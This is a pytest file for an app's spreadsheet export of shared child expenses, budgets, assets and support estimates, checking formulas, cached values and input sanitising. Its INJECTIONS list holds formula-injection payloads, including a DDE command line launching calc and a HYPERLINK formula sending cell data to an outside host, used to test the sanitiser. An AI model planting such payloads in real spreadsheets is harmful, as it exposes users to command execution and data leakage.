"""The XLSX export read back with openpyxl: sheets, table, types, formats, formulas and their cached values (a viewer
that does not recalculate sees the app's figures), the parties' names, the place's headings, and injection safety.

That the formulas compute what the app computes is checked by recalculating in LibreOffice: test_xlsx_recalc.py."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal as D
from pathlib import Path

import openpyxl
import pytest

import cli
from calculators.expenses import expense_summary
from casefile.finances import (
    Asset,
    AssetCategory,
    AssetsDebts,
    Budget,
    BudgetCategory,
    BudgetLine,
    Debt,
    Expense,
    ExpenseCategory,
    ExpenseLog,
    Owner,
    ReimbursementStatus,
)
from casefile.models import Case, IncomeEvidence, IncomeItem, IncomeKind, Parent
from casefile.money import Frequency
from casefile.storage import save_case
from reports.sanitize import clean_text, markup_text, spreadsheet_text
from reports.xlsx import (
    SHEET_ASSETS,
    SHEET_BUDGET,
    SHEET_EXPENSES,
    SHEET_FRONT,
    SHEET_INCOME,
    SHEET_SUMMARY,
    SHEET_SUPPORT,
    build_xlsx,
)

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\x07=1+1",  # a control character hiding a formula
]


def expense(day: str, amount: str, paid_by: str = "parent_a", **kw: object) -> Expense:
    return Expense(date=dt.date.fromisoformat(day), amount=D(amount), paid_by=paid_by, **kw)


def load(case: Case) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(build_xlsx(case)))


@pytest.fixture
def case() -> Case:
    items = (
        expense("2026-03-01", "100.00", "parent_a", description="School shoes", category=ExpenseCategory.CLOTHING,
                children=("Maya", "Leo"), receipt_note="Card receipt"),  # B owes A 50.00
        expense("2026-03-15", "30.00", "parent_b", description="Dentist", category=ExpenseCategory.HEALTH),  # 15.00
        expense("2026-04-02", "60.00", "parent_a", share_a=D(40), category=ExpenseCategory.CHILD_CARE),  # 36.00
        expense("2026-04-10", "20.00", "parent_b", status=ReimbursementStatus.PAID),  # settled: 10.00
    )
    return Case(
        jurisdiction="GB", parent_a=Parent(display_name="Sam"), parent_b=Parent(display_name="Jordan"),
        expenses=ExpenseLog(items=items),
        budget=Budget(lines=(BudgetLine(category=BudgetCategory.GROCERIES, amount=D("100"),
                                        frequency=Frequency.WEEKLY),)),
        assets_debts=AssetsDebts(assets=(Asset(category=AssetCategory.CASH, owner=Owner.MINE, value=D("1000"),
                                               amount_owed=D("200")),),
                                 debts=(Debt(owner=Owner.JOINT, amount_owed=D("300")),)),
    )


def values(case: Case) -> openpyxl.Workbook:
    """The workbook as a viewer that does not recalculate sees it: each formula's cached value."""
    return openpyxl.load_workbook(io.BytesIO(build_xlsx(case, today=TODAY)), data_only=True)


def rows_by_label(ws) -> dict[object, tuple]:  # type: ignore[no-untyped-def]
    return {r[0]: r[1:] for r in ws.iter_rows(values_only=True) if r and r[0] is not None}


TODAY = dt.date(2026, 11, 23)


def test_sheets_table_filters_frozen_header_widths(case: Case) -> None:
    wb = load(case)
    assert wb.sheetnames == [SHEET_FRONT, SHEET_INCOME, SHEET_SUPPORT, SHEET_BUDGET, SHEET_ASSETS, SHEET_EXPENSES,
                             SHEET_SUMMARY]
    ws = wb[SHEET_EXPENSES]
    table = ws.tables["Expenses"]
    assert table.ref == "A1:L5"  # header + 4 expenses
    assert table.autoFilter is not None and table.autoFilter.ref == "A1:L5"
    header = [c.value for c in ws[1]]
    assert [col.name for col in table.tableColumns] == header  # Excel drops a table whose names differ
    assert header[:6] == ["Date", "Description", "Category", "Amount", "Paid by", "Children"]
    assert header[6:8] == ["Sam's share (%)", "Jordan's share (%)"]  # plain words with the parties' names
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width >= 20 and ws.column_dimensions["C"].width == 30


def test_front_sheet_says_who_where_when_and_what_it_is(case: Case) -> None:
    front = rows_by_label(values(case)[SHEET_FRONT])
    assert front["Prepared by"][0] == "Sam"
    assert front["Place"][0] == "Great Britain"
    assert front["Date"][0].date() == TODAY
    assert (front["Party A"][0], front["Party B"][0]) == ("Sam", "Jordan")
    assert "An estimate, not legal advice" in front


def test_expense_rows_have_real_types_formats_and_live_shares(case: Case) -> None:
    ws = load(case)[SHEET_EXPENSES]
    row = [c for c in ws[2]]
    assert row[0].is_date and row[0].value.date() == dt.date(2026, 3, 1) and row[0].number_format == "yyyy-mm-dd"
    assert row[1].value == "School shoes" and row[1].data_type == "s"
    assert row[2].value == "Clothing"
    assert row[3].value == 100 and row[3].data_type == "n" and "£" in row[3].number_format
    assert row[4].value == "Sam" and row[5].value == "Maya, Leo"
    assert row[6].value == 50 and row[7].value == "=100-G2"  # B's share follows A's
    assert row[8].value == "Usual split"
    # owed to the one who paid: the other parent's share of the amount, to the cent
    assert row[9].value == "=ROUND(D2*IF(E2=About!$B$8,H2,G2)/100,2)" and "£" in row[9].number_format
    assert row[10].value == "Not requested" and row[11].value == "Card receipt"
    cached = [c.value for c in values(case)[SHEET_EXPENSES][4]]
    assert (cached[6], cached[7], cached[9]) == (40, 60, 36)  # 60 x 60% = 36.00


def test_summary_formulas_and_their_cached_values_match_the_hand_worked_balance(case: Case) -> None:
    formulas = rows_by_label(load(case)[SHEET_SUMMARY])
    assert formulas["Owed to Sam (Jordan's shares of what Sam paid)"][0] == (
        '=SUMPRODUCT((Expenses!$E$2:$E$5=About!$B$8)*(Expenses!$K$2:$K$5<>"Paid back")*Expenses!$J$2:$J$5)')
    assert formulas["All expenses"][0] == "=SUM(Expenses!$D$2:$D$5)"
    rows = rows_by_label(values(case)[SHEET_SUMMARY])
    # owed to Sam: 50 + 36 = 86; owed to Jordan: 15 (the 10 paid back is left out); Jordan owes Sam 71
    assert rows["Owed to Sam (Jordan's shares of what Sam paid)"][0] == 86
    assert rows["Owed to Jordan (Sam's shares of what Jordan paid)"][0] == 15
    assert rows["Result after setting one against the other"][:2] == (71, "Jordan owes Sam")
    assert rows["Already paid back (not in the balance)"][0] == 10
    assert rows["All expenses"][0] == 210 and rows["Number of expenses"][0] == 4
    assert rows["Clothing"][0] == 100 and rows["Child care"][0] == 60
    months = [r for r in values(case)[SHEET_SUMMARY].iter_rows(values_only=True) if isinstance(r[0], dt.datetime)]
    # March: 100 + 30 = 130, Jordan owes 50 - 15 = 35; April: 60 + 20 = 80, Jordan owes 36
    assert [(m[0].date(), *m[1:6]) for m in months] == [
        (dt.date(2026, 3, 1), 130, 50, 15, "Jordan owes Sam", 35),
        (dt.date(2026, 4, 1), 80, 36, 0, "Jordan owes Sam", 36),
    ]
    assert rows["Sam"][:2] == (160, 99)  # paid 100 + 60; bears 50 + 15 + 24 (40% of 60) + 10 = 99
    assert rows["Jordan"][:2] == (50, 111)  # paid 30 + 20; bears 50 + 15 + 36 + 10 = 111 (99 + 111 = 210)
    assert D(str(rows["Sam"][1])) == expense_summary(case).borne_by["parent_a"]


def test_income_sheet_as_entered_with_frequency_a_year_a_month_and_how_known() -> None:
    case = Case(parent_a=Parent(display_name="Sam", income=(
        IncomeItem(amount=D("14.20"), frequency=Frequency.HOURLY, hours_per_week=D(30), description="Pharmacy",
                   known_from=IncomeEvidence.PAYSLIP),
        IncomeItem(kind=IncomeKind.OTHER, amount=D(120), description="Tutoring"))),
        parent_b=Parent(display_name="Jordan", income=(IncomeItem(amount=None, description="Salary"),)))
    ws = load(case)[SHEET_INCOME]
    cached = values(case)[SHEET_INCOME]
    row = next(r for r in ws.iter_rows() if r[1].value == "Pharmacy")
    r = row[0].row
    assert [c.value for c in row[2:6]] == [14.2, "an hour", 30, f'=IF(E{r}="","",E{r}*52)']
    assert row[6].value == f'=IF(C{r}="","",C{r}*F{r})' and row[7].value == f'=IF(G{r}="","",G{r}/12)'
    assert row[8].value == "Payslip"
    # 14.20 x 30 x 52 = 22,152 a year; / 12 = 1,846 a month
    assert [c.value for c in cached[r][5:8]] == [1560, pytest.approx(22152), pytest.approx(1846)]
    tutoring = next(r for r in cached.iter_rows(values_only=True) if r[1] == "Tutoring")
    assert tutoring[5:9] == (12, 1440, 120, "not answered")
    totals = [r for r in cached.iter_rows(values_only=True) if r[0] == "Total"]
    assert totals[0][6:8] == (pytest.approx(23592), pytest.approx(1966))  # 22,152 + 1,440; 1,846 + 120
    assert totals[1][6:8] == ("not known yet", "not known yet")  # Jordan's salary is not known: never a zero


def test_child_support_sheet_lines_with_their_law_and_where_read() -> None:
    from casefile.storage import load_case
    from tests.conftest import DEMO_CASE

    demo = load_case(DEMO_CASE)
    ws = values(demo)[SHEET_SUPPORT]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[1][0] == "Estimate: Jordan pays Sam about £94.00 a week."
    lines = {r[0]: r for r in rows[4:]}
    shared = lines["After the 2/7 shared-care cut"]
    assert shared[1] == pytest.approx(94.41)
    assert shared[3] == ("Child Support Act 1991, Schedule 1, paras 7-8 (shared care); GOV.UK child maintenance "
                         "calculator")
    assert "commit 39cd0dbf" in shared[4] and shared[4].startswith("Confidence: official.")
    assert lines["Nights a year the children stay with Jordan"][2] == "104 nights"


def test_budget_and_assets_sheets(case: Case) -> None:
    wb, cached = load(case), values(case)
    line = next(r for r in wb[SHEET_BUDGET].iter_rows() if r[0].value == "Groceries and household supplies")
    r = line[0].row
    assert [c.value for c in line[2:7]] == [100, "a week", 52, f'=IF(C{r}="","",C{r}*E{r}/12)', "Estimated"]
    budget = rows_by_label(cached[SHEET_BUDGET])
    # 100 a week = 5,200 a year = 433.33 a month
    assert budget["Total monthly expenses"][4] == pytest.approx(433.333333)
    assert budget["  of which marked estimated"][4] == pytest.approx(433.333333)
    assets = rows_by_label(cached[SHEET_ASSETS])
    assert assets["Sam"][2:6] == (1000, 200, 0, 800)  # "Mine" is Sam (the person using the app)
    assert assets["Joint"][2:6] == (0, 0, 300, -300)
    assert assets["Total"][5] == 500  # 800 - 300
    assert "Mine" not in assets and "Theirs" not in assets
    formulas = rows_by_label(wb[SHEET_ASSETS])
    assert formulas["Total"][2] == "=SUM(D13:D16)"  # the four owners above it


def test_california_uses_fl150_and_fl142_headings() -> None:
    case = Case(jurisdiction="US-CA", budget=Budget(lines=(BudgetLine(category=BudgetCategory.PHONE, amount=D(80)),)),
                assets_debts=AssetsDebts(assets=(Asset(category=AssetCategory.CHECKING_ACCOUNTS, value=D(5)),)))
    wb = values(case)
    assert "FL-150" in wb[SHEET_BUDGET]["A2"].value
    assert any(r[0] == "Telephone, cell phone and e-mail" for r in wb[SHEET_BUDGET].iter_rows(values_only=True))
    assert any(r[0] == "Checking accounts" for r in wb[SHEET_ASSETS].iter_rows(values_only=True))


def test_the_same_name_twice_is_told_apart_so_the_formulas_count_the_right_rows() -> None:
    items = (expense("2026-01-02", "10", "parent_a"), expense("2026-01-03", "30", "parent_b"))
    case = Case(parent_a=Parent(display_name="Alex"), parent_b=Parent(display_name="alex"),
                expenses=ExpenseLog(items=items))
    front = rows_by_label(values(case)[SHEET_FRONT])
    assert (front["Party A"][0], front["Party B"][0]) == ("Alex (A)", "alex (B)")
    summary = rows_by_label(values(case)[SHEET_SUMMARY])
    assert summary["Alex (A)"][0] == 10 and summary["alex (B)"][0] == 30


def test_formulas_never_hold_typed_text() -> None:
    """Names and descriptions reach formulas only as references to cells (the About sheet's names)."""
    marker = "Zq7"
    case = Case(parent_a=Parent(display_name=f"{marker} \"A\""), parent_b=Parent(display_name=f"{marker}B"),
                expenses=ExpenseLog(items=(expense("2026-01-02", "10", description=marker),)),
                budget=Budget(lines=(BudgetLine(amount=D(1), description=marker),)),
                assets_debts=AssetsDebts(assets=(Asset(description=marker, value=D(1)),)))
    with zipfile.ZipFile(io.BytesIO(build_xlsx(case))) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                for formula in re.findall(r"<f>(.*?)</f>", z.read(name).decode()):
                    assert marker not in formula, formula


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_strings_come_back_as_literal_text(text: str) -> None:
    item = expense("2026-01-01", "5", description=text, receipt_note=text, children=(text,))
    case = Case(parent_a=Parent(display_name=text, income=(IncomeItem(amount=D(1), description=text),)),
                expenses=ExpenseLog(items=(item,)),
                budget=Budget(lines=(BudgetLine(amount=D(1), description=text),)),
                assets_debts=AssetsDebts(assets=(Asset(description=text, value=D(1)),)))
    safe = spreadsheet_text(item.description)  # as stored (the model strips surrounding whitespace)
    assert safe.startswith("'") and safe != item.description
    seen = 0
    for ws in load(case).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    continue  # the app's own formulas (test_formulas_never_hold_typed_text)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    if cell.value == safe:
                        assert cell.data_type == "s"
                        seen += 1
    # description, children, receipt note, paid by (Expenses); the name (About, Summary, Income); budget; asset
    assert seen >= 9


def test_read_only_reader_sees_the_same_rows(case: Case) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(build_xlsx(case)), read_only=True)
    rows = list(wb[SHEET_EXPENSES].iter_rows(values_only=True))
    assert len(rows) == 5 and rows[1][1] == "School shoes"


def test_empty_case_exports() -> None:
    wb = values(Case())
    ws = wb[SHEET_EXPENSES]
    assert ws.cell(row=2, column=1).value == "No expenses recorded yet."
    assert not load(Case())[SHEET_EXPENSES].tables
    summary = rows_by_label(wb[SHEET_SUMMARY])
    assert summary["Result after setting one against the other"][:2] == (0, "Nothing is owed either way")
    assert summary["All expenses"][0] == 0


def test_many_rows_round_trip() -> None:
    items = tuple(expense((dt.date(2025, 1, 1) + dt.timedelta(days=i % 400)).isoformat(), f"{i % 97 + 1}.{i % 100:02d}",
                          "parent_a" if i % 3 else "parent_b", description=f"Item {i}",
                          category=list(ExpenseCategory)[i % 8]) for i in range(3000))
    case = Case(expenses=ExpenseLog(items=items))
    wb = openpyxl.load_workbook(io.BytesIO(build_xlsx(case)), read_only=True, data_only=True)
    rows = list(wb[SHEET_EXPENSES].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3000
    assert sum(D(str(r[3])) for r in rows) == sum(e.amount for e in items)
    assert rows[2999][1] == "Item 2999"
    summary = rows_by_label(wb[SHEET_SUMMARY])
    assert D(str(summary["All expenses"][0])) == sum(e.amount for e in items)


def test_cli_export(tmp_path: Path, case: Case, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "case.case.json"
    save_case(case, path)
    out = tmp_path / "money.xlsx"
    assert cli.main(["export", str(path), "-o", str(out)]) == 0
    assert openpyxl.load_workbook(out).sheetnames[0] == SHEET_FRONT
    assert cli.main(["export", str(path), "-o", str(tmp_path / "money.csv")]) == 2
    assert cli.main(["export", str(tmp_path / "missing.json"), "-o", str(out)]) == 2
    assert "Traceback" not in capsys.readouterr().err


# --- the shared sanitiser ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),  # the tab becomes a space; the text is still quoted
        ("\r=1", "' =1"),
        ("\x07=1", "'=1"),  # a control character hiding the formula is removed, then caught
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("bell\x07 and null\x00", "bell and null"),
        ("line\nbreak", "line break"),
        ("", ""),
    ],
)
def test_spreadsheet_text(raw: str, safe: str) -> None:
    assert spreadsheet_text(raw) == safe
    assert spreadsheet_text(spreadsheet_text(raw)) == safe  # idempotent


def test_clean_and_markup_text() -> None:
    assert clean_text("a\x1bb\x7fc\x85d") == "abcd"
    assert clean_text("x\ud800y\uffffz") == "xyz"  # a lone surrogate or non-character would break the XML
    assert clean_text("one\r\ntwo", keep_newlines=True) == "one\ntwo"
    assert markup_text("<b>x</b> & y\nz") == "&lt;b&gt;x&lt;/b&gt; &amp; y<br/>z"
